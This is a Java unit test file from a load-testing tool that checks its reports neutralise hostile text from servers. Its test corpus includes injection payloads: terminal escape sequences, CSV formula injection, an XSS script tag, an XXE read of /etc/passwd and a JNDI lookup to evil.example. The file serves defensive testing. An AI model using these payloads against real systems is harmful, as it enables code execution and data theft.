// SPDX-FileCopyrightText: The Trueload Authors
// SPDX-License-Identifier: Apache-2.0
package io.trueload.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.core.JsonToken;
import io.trueload.engine.GeneratorHealth;
import io.trueload.engine.LoadResult;
import io.trueload.engine.LoadResult.ErrorCount;
import io.trueload.engine.Outcome;
import io.trueload.engine.RunListener.RequestResult;
import io.trueload.engine.TargetHealth;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Texts that a server or a certificate may have chosen, in all that is written of a result. */
class HostileTextTest {

    private static final String MARKER = "m4rker";

    /** What moves a cursor, turns the direction of writing, or is no character at all. */
    private static final Pattern ACTED_UPON = Pattern.compile(
            "[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}\\p{Co}\\p{Cn}&&[^\\n\\t]]|[\\ud800-\\udbff](?![\\udc00-\\udfff])"
                    + "|(?<![\\ud800-\\udbff])[\\udc00-\\udfff]");

    static Stream<String> corpus() {
        return Stream.of(
                        "\u001b[2J\u001b[1;1H\u001b[31mPASS",
                        "\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007",
                        "\u001b]0;title\u001b\\",
                        "\u001bP+q\u001b\\",
                        "\u009b31m",
                        "\u202egnp.exe\u202c",
                        "\u2066a\u2069\u200f\u061c",
                        "a\u200bb\ufeffc",
                        "nul\u0000bel\u0007bs\b\u007f",
                        "line\r\nVerdict: PASS\nSummary:\r",
                        "\u2028Verdict: PASS\u2029",
                        "\u0085next",
                        "high \ud800 low \udc00 end \udbff",
                        "\ufffe\uffff",
                        "\ue000")
                .map(text -> text + MARKER);
    }

    static Stream<String> harmlessInATerminal() {
        return Stream.of(
                        "=cmd|'/c calc'!A0",
                        "+1+1",
                        "-2+3",
                        "@SUM(A1)",
                        "\t=1",
                        "</script><script>alert(1)</script>",
                        "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>",
                        "\"quoted\\\"",
                        "%n%s%x${jndi:ldap://evil.example}")
                .map(text -> text + MARKER);
    }

    static Stream<String> all() {
        return Stream.concat(corpus(), harmlessInATerminal());
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void corpus_holdsWhatIsLookedFor(String hostile) {
        assertThat(ACTED_UPON.matcher(hostile.replace('\n', '\u0001')).find()).isTrue();
    }

    @ParameterizedTest
    @MethodSource("all")
    void texts_areDrawnAndNotActedUpon_oneLineEach(String hostile) {
        LoadResult result = result(hostile);
        long linesOfHarmless = lines(TextReport.render(result("harmless " + MARKER)));
        long linesOfExplanation = lines(Explanation.of(result("harmless " + MARKER)));

        for (String text : List.of(TextReport.render(result), Explanation.of(result), Explanation.summary(result))) {
            assertThat(text).contains(MARKER);
            assertThat(ACTED_UPON.matcher(text).find()).as(text).isFalse();
        }
        assertThat(lines(TextReport.render(result))).isEqualTo(linesOfHarmless);
        assertThat(lines(Explanation.of(result))).isEqualTo(linesOfExplanation);
    }

    @ParameterizedTest
    @MethodSource("all")
    void json_staysValid_andHoldsTheText(String hostile) throws IOException {
        var out = new ByteArrayOutputStream();
        JsonReport.write(result(hostile), out);

        // A strict decoder, which refuses what is no UTF-8.
        String text = StandardCharsets.UTF_8
                .newDecoder()
                .decode(ByteBuffer.wrap(out.toByteArray()))
                .toString();
        assertThat(texts(text)).anyMatch(each -> each.endsWith(MARKER));
        assertThat(text.chars().filter(c -> c < ' ' && c != '\n' || c > 0x7f)).isEmpty();
    }

    @ParameterizedTest
    @MethodSource("all")
    void reportFiles_holdNothingThatIsActedUpon(String hostile) {
        Written.withMessages(result(hostile)).forEach((ending, text) -> {
            assertThat(text).as(ending).contains(MARKER);
            if (!ending.equals(".json")) {
                // The script that draws the charts is ours.
                String ofOthers = text.replaceAll("(?s)<script>.*</script>", "");
                assertThat(ACTED_UPON.matcher(ofOthers).find()).as(ending).isFalse();
            }
        });
        Written.withoutMessages(result(hostile))
                .forEach((ending, text) -> assertThat(text).as(ending).doesNotContain(MARKER));
    }

    @ParameterizedTest
    @MethodSource("all")
    void csvAndHistogramLog_holdNoTextOfAServer(String hostile) throws IOException {
        var csv = new ByteArrayOutputStream();
        try (CsvReport rows = CsvReport.to(csv, CsvReport.Columns.HEY_AND_OUTCOME)) {
            rows.ended(new RequestResult(Outcome.PROTOCOL_ERROR, 0, hostile, 1, 2, 3, 4, 5, 6, 7));
        }
        var log = new ByteArrayOutputStream();
        HistogramLog.write(result(hostile), log);

        String rows = csv.toString(StandardCharsets.UTF_8);
        assertThat(rows).doesNotContain(MARKER).contains("protocolError");
        for (String cell : rows.split("[,\n]")) {
            assertThat(cell).doesNotMatch("(?s)[=+@\t\r-].*");
        }
        assertThat(log.toString(StandardCharsets.UTF_8)).doesNotContain(MARKER);
    }

    @Test
    void megabyteOfText_isCutInATerminal_andWholeInJson() throws IOException {
        String hostile = "\u001b[31m".repeat(200_000);
        LoadResult result = result(hostile);
        var out = new ByteArrayOutputStream();
        JsonReport.write(result, out);

        assertThat(hostile).hasSizeGreaterThanOrEqualTo(1_000_000);
        assertThat(TextReport.render(result)).hasSizeLessThan(100_000).contains("…");
        assertThat(Explanation.of(result)).hasSizeLessThan(100_000);
        assertThat(texts(out.toString(StandardCharsets.UTF_8))).anyMatch(hostile::equals);
    }

    private static LoadResult result(String hostile) {
        Results results = new Results();
        results.errors = List.of(
                new ErrorCount(Outcome.PROTOCOL_ERROR, hostile, 3), new ErrorCount(Outcome.TLS_FAILED, hostile, 2));
        results.counts =
                Results.counts(205, 0, Map.of(Outcome.OK, 200L, Outcome.PROTOCOL_ERROR, 3L, Outcome.TLS_FAILED, 2L));
        Duration none = Duration.ZERO;
        results.generator = new GeneratorHealth(
                List.of(hostile),
                none,
                none,
                none,
                none,
                0.1,
                none,
                none,
                -1,
                -1,
                GeneratorHealth.Processors.UNKNOWN,
                GeneratorHealth.Pauses.NONE,
                GeneratorHealth.UNBOUNDED);
        results.target = new TargetHealth(10, 5, none, -1, -1, 0, hostile);
        results.environment.put("publicTarget", hostile);
        results.environment.put("protocol", hostile);
        results.environment.put("tlsHandshakes", hostile);
        return results.build();
    }

    private static long lines(String text) {
        return text.chars().filter(c -> c == '\n').count();
    }

    private static List<String> texts(String json) throws IOException {
        List<String> texts = new ArrayList<>();
        try (JsonParser parser = new JsonFactory().createParser(json)) {
            for (JsonToken token = parser.nextToken(); token != null; token = parser.nextToken()) {
                if (token == JsonToken.VALUE_STRING) {
                    texts.add(parser.getText());
                }
            }
        }
        return texts;
    }
}
